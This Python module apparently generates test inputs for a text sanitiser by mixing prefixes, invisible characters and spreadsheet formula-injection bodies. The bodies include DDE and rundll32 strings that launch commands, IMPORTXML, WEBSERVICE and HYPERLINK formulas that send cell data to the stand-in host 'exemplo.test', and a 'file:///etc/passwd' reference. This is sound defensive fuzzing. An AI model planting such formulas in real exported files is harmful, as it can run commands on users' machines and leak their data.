"""Words a spreadsheet program would take for a formula, by the thousand."""

import random
from typing import Final

from domain.clean_text import clean

STARTS: Final = (
    "=",
    "=",
    "=",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "{=",
    "%",
    "|",
    "'=",
)
BEFORE: Final = (
    "", "", "", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "\u00ad", "\u202e", "\u200e",
    "\u180e", "\x00", "\x0b", "\x1b", "\x85", '"', '";', "';", ",", ";", "\n", "\r\n", "\t",
    "👨\u200d",
)  # fmt: skip
BODIES: Final = (
    "1+1", "A1", "SUM(A1:A9)", 'HYPERLINK("http://exemplo.test/?"&A2,"clique")',
    "cmd|' /C calc'!A0", 'WEBSERVICE("http://exemplo.test/")', 'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://exemplo.test/?v=",A1),"//a")', "1e9", "rundll32|'x'!A", "10/3", "0x1",
    "_x003D_1", "#REF!", "TRUE", "<f>1+1</f>", "]]><f>1</f>", "</t></is><f>1</f>", "&#61;1",
    "Zé & Cia",
    "http://exemplo.test", "mailto:a@exemplo.mg.gov.br", "file:///etc/passwd", "internal:Lista!A1",
)  # fmt: skip


def raw(seed: int, count: int) -> list[str]:
    """Give so many texts, the same for the same seed, each one different."""
    random_ = random.Random(seed)  # noqa: S311 - no secret
    found: dict[str, None] = {}
    while len(found) < count:
        starts = "".join(random_.choices(STARTS, k=random_.choice((1, 1, 1, 2))))
        text = random_.choice(BEFORE) + starts + random_.choice(BODIES)
        found[text + random_.choice(("", "", " ", "\n", str(len(found))))] = None
    return list(found)


def stored(seed: int, count: int) -> list[str]:
    """Give what the edge makes of such texts: what the tables hold; some are equal."""
    return [clean(text) or "=" for text in raw(seed, count)]
